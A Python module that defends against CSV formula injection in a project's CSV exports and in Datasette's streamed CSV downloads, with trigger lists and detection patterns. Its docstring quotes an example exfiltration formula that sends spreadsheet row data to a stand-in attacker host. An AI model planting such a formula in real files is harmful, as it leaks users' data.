"""CSV cells that cannot run: formula injection neutralised in every CSV the project writes.

A statement's title or text is written by whoever runs the site it came from. A cell that
starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to a spreadsheet
program (`=HYPERLINK("http://evil.example/?"&A2,"click")` sends the row away). As OWASP
recommends, such a cell is written with a leading `'`, which spreadsheets show as text. The
database keeps the original; only the CSV copy is changed. Plain numbers (`-5`, `+3.2`)
are left alone: they are not formulas.

`csv_record` writes the snapshots' rows (archive/export.py) and Datasette's (archive/web/
plugin.py); `InertCsv` wraps Datasette's ASGI app so that its CSV downloads (`.csv`,
`?_stream=on`) get the same treatment whatever writes them, streamed.
"""

from __future__ import annotations

import contextvars
import csv
import io
import re
from collections.abc import Awaitable, Callable, Iterable, Sequence
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def inert(value: Any) -> Any:
    """The cell as a spreadsheet will only ever show it: text starting with a formula
    trigger gets a leading `'`; everything else is returned unchanged."""
    if isinstance(value, str) and value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def inert_row(row: Sequence[Any]) -> list[Any]:
    return [inert(value) for value in row]


# -- Writing records -------------------------------------------------------------------------
#
# Written by hand: the csv module's writer looks at a text one character at a time, with a
# function call for each, and spent 150 µs on a row of a Chinese statement (6 KB), more than
# the rest of a CSV download together. These str methods scan in C loops: 8 µs. The output
# is the csv module's (dialect "excel"), byte for byte; tests/test_trust.py holds them to it.

RECORD_END = "\r\n"


def _cell(value: Any) -> str:
    if value is None:
        return ""
    if not isinstance(value, str):
        return str(value)  # as the csv module writes numbers
    value = inert(value)
    if '"' in value or "," in value or "\n" in value or "\r" in value:
        return '"' + value.replace('"', '""') + '"'
    return value


def csv_record(row: Sequence[Any]) -> str:
    """One CSV record (CRLF-terminated, minimal quoting) of `row`, its cells made inert."""
    record = ",".join(map(_cell, row))
    if not record and len(row) == 1:
        record = '""'  # a lone empty cell, quoted so that the record is not an empty line
    return record + RECORD_END


# The record a RecordWriter wrote last in this request: InertCsv passes a message that is
# exactly that record on without a second look (it is whole and its cells are inert).
_last_record: contextvars.ContextVar[str] = contextvars.ContextVar("last_record", default="")


class RecordWriter:
    """A `csv.writer` for `csv_record`'s records: `writerow` returns what `out.write`
    returns, so that Datasette's asynchronous writer can await it."""

    def __init__(self, out: Any) -> None:
        self._write = out.write

    def writerow(self, row: Sequence[Any]) -> Any:
        record = csv_record(row)
        _last_record.set(record)
        return self._write(record)

    def writerows(self, rows: Iterable[Sequence[Any]]) -> None:
        for row in rows:
            self._write(csv_record(row))


# -- Datasette's CSV -------------------------------------------------------------------------

Scope = dict[str, Any]
Message = dict[str, Any]
Receive = Callable[[], Awaitable[Message]]
Send = Callable[[Message], Awaitable[None]]
App = Callable[[Scope, Receive, Send], Awaitable[None]]


def _record_end(data: bytes) -> int:
    """Where the last complete CSV record of `data` ends (0: none complete yet)."""
    end = data.rfind(b"\n")
    # A newline ends a record where the quotes before it are balanced (an escaped quote
    # is two quotes, so parity still tells). UTF-8 never hides a quote or newline byte.
    while end != -1 and data.count(b'"', 0, end) % 2:
        end = data.rfind(b"\n", 0, end)
    return end + 1


# A field that could start with a trigger: after a record's newline or a field's comma,
# bare or after its opening quote (a carriage return is always quoted; a bare \r ends a
# record). Newlines and commas inside quoted text match too: that only costs the careful
# path below. No alternation up front: it makes the scan several times slower.
_MAYBE_FORMULA = re.compile(rb'[,\n]"?[=+\-@\t]|[,\n]"\r')


def _rewrite(data: bytes) -> bytes:
    # Most records hold no cell a spreadsheet would run: they pass as they are, since
    # parsing and rewriting every record would halve the CSV download's speed.
    if not (_MAYBE_FORMULA.search(data) or _MAYBE_FORMULA.match(b"\n" + data[:2])):
        return data
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for row in csv.reader(io.StringIO(data.decode("utf-8", "replace"), newline="")):
        writer.writerow(inert_row(row))
    return out.getvalue().encode("utf-8")


# Datasette sends a streamed CSV one row a message, and each message became a socket write
# of its own: rows are passed on gathered into messages of at least this many bytes.
GATHER_BYTES = 1 << 18


class InertCsv:
    """ASGI middleware: every CSV response of the app (a path ending `.csv`) is rewritten
    record by record as it streams, its cells made inert; other responses pass untouched.
    A message that is exactly the record a RecordWriter wrote last passes as it is."""

    def __init__(self, app: App) -> None:
        self.app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope.get("type") != "http" or not str(scope.get("path", "")).endswith(".csv"):
            await self.app(scope, receive, send)
            return
        token = _last_record.set("")
        try:
            await self._rewritten(scope, receive, send)
        finally:
            _last_record.reset(token)

    async def _rewritten(self, scope: Scope, receive: Receive, send: Send) -> None:
        pending = b""
        gathered: list[bytes] = []  # rewritten, not sent yet
        gathered_bytes = 0
        rewriting = False

        async def send_inert(message: Message) -> None:
            nonlocal pending, gathered_bytes, rewriting
            if message["type"] == "http.response.start":
                rewriting = int(message.get("status", 200)) == 200
                if rewriting:  # the length changes: let the server chunk it
                    headers: Iterable[tuple[bytes, bytes]] = message.get("headers", [])
                    message = {
                        **message,
                        "headers": [(k, v) for k, v in headers if k.lower() != b"content-length"],
                    }
            elif message["type"] == "http.response.body" and rewriting:
                more = message.get("more_body", False)
                body = message.get("body", b"")
                if not pending and body and body == _last_record.get().encode("utf-8"):
                    chunk = body  # a RecordWriter's record: whole, and already inert
                else:
                    pending += body
                    end = len(pending) if not more else _record_end(pending)
                    chunk, pending = _rewrite(pending[:end]), pending[end:]
                if chunk:
                    gathered.append(chunk)
                    gathered_bytes += len(chunk)
                if more and gathered_bytes < GATHER_BYTES:
                    return
                message = {**message, "body": b"".join(gathered)}
                gathered.clear()
                gathered_bytes = 0
            await send(message)

        await self.app(scope, receive, send_inert)
